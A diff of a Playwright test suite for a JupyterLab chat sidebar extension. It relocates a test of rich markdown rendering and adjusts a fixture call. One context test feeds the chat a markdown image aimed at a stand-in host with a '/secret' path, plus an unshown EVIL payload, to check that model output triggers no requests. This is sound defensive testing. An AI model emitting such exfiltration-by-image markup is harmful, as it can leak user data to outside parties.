@@ -380,7 +380,7 @@ def test_what_a_model_says_does_not_run(open_lab: Open, standin: StandIn) -> Non
     text = f"![pixel](https://x.invalid/secret)\n\n{EVIL}"
     standin.stream(*[chunk(letter) for letter in text], usage_chunk(), DONE)
     asked: list[str] = []
-    with open_lab() as opened:
+    with open_lab(again=True) as opened:
         opened.page.on("request", lambda request: asked.append(request.url))
         chat = open_sidebar(opened.page)
         chat.ask("Hi")
@@ -412,6 +412,45 @@ def test_it_is_made_for_everybody(open_lab: Open, standin: StandIn) -> None:
             page.keyboard.press("Shift+Tab")
             reached.add(page.evaluate("document.activeElement.getAttribute('aria-label')"))
         assert {"Ask again", "Copy the answer", "Run in a new cell", "Conversation"} <= reached
+
+
+RICH = """\
+Tasks:
+
+- [x] aqueduct
+- [ ] bridge
+
+Rome[^1] had eleven. \\[\\bar{x} = 1\\] in a line, and money: $3.50 or $7.
+
+שלום עולם, 3 arches
+
+```mermaid
+graph LR; Spring-->Aqueduct-->City
+```
+
+[^1]: By the year 226.
+"""
+
+
+def test_an_answer_has_tasks_footnotes_diagrams_and_both_directions(
+    open_lab: Open, standin: StandIn
+) -> None:
+    say(standin, RICH)
+    with open_lab(again=True) as opened:
+        chat = open_sidebar(opened.page)
+        chat.ask("Show me")
+        chat.expect_whole("Tasks")
+        diagram = chat.area.locator("img.aqueduct-diagram")
+        expect(diagram).to_be_visible()
+        assert diagram.get_attribute("src", timeout=0).startswith("data:image/svg+xml,")
+        expect(chat.area.locator(".aqueduct-mark")).to_have_text(["☑", "☐"])
+        expect(chat.area.locator("sup")).to_have_text(["1", "1"])
+        expect(chat.area.locator("mjx-container")).to_have_count(1)
+        expect(chat.answer()).to_contain_text("$3.50 or $7")
+        hebrew = chat.answer().locator("p").filter(has_text="שלום")
+        assert hebrew.evaluate("node => getComputedStyle(node).direction") == "rtl"
+        assert faults(opened.page, ".aqueduct-sidebar") == []
+        chat.screenshot("rich")
 
 
 THEMES = ["JupyterLab Light", "JupyterLab Dark"]
@@ -523,42 +562,3 @@ def test_an_upstream_that_is_gone_is_a_card_with_retry(open_lab: Open, standin: 
         card = chat.area.locator(".aqueduct-turn .aqueduct-error")
         expect(card).to_contain_text("campus")
         expect(card.get_by_role("button", name="Try again")).to_be_enabled()
-
-
-RICH = """\
-Tasks:
-
-- [x] aqueduct
-- [ ] bridge
-
-Rome[^1] had eleven. \\[\\bar{x} = 1\\] in a line, and money: $3.50 or $7.
-
-שלום עולם, 3 arches
-
-```mermaid
-graph LR; Spring-->Aqueduct-->City
-```
-
-[^1]: By the year 226.
-"""
-
-
-def test_an_answer_has_tasks_footnotes_diagrams_and_both_directions(
-    open_lab: Open, standin: StandIn
-) -> None:
-    say(standin, RICH)
-    with open_lab(again=True) as opened:
-        chat = open_sidebar(opened.page)
-        chat.ask("Show me")
-        chat.expect_whole("Tasks")
-        diagram = chat.area.locator("img.aqueduct-diagram")
-        expect(diagram).to_be_visible()
-        assert diagram.get_attribute("src", timeout=0).startswith("data:image/svg+xml,")
-        expect(chat.area.locator(".aqueduct-mark")).to_have_text(["☑", "☐"])
-        expect(chat.area.locator("sup")).to_have_text(["1", "1"])
-        expect(chat.area.locator("mjx-container")).to_have_count(1)
-        expect(chat.answer()).to_contain_text("$3.50 or $7")
-        hebrew = chat.answer().locator("p").filter(has_text="שלום")
-        assert hebrew.evaluate("node => getComputedStyle(node).direction") == "rtl"
-        assert faults(opened.page, ".aqueduct-sidebar") == []
-        chat.screenshot("rich")
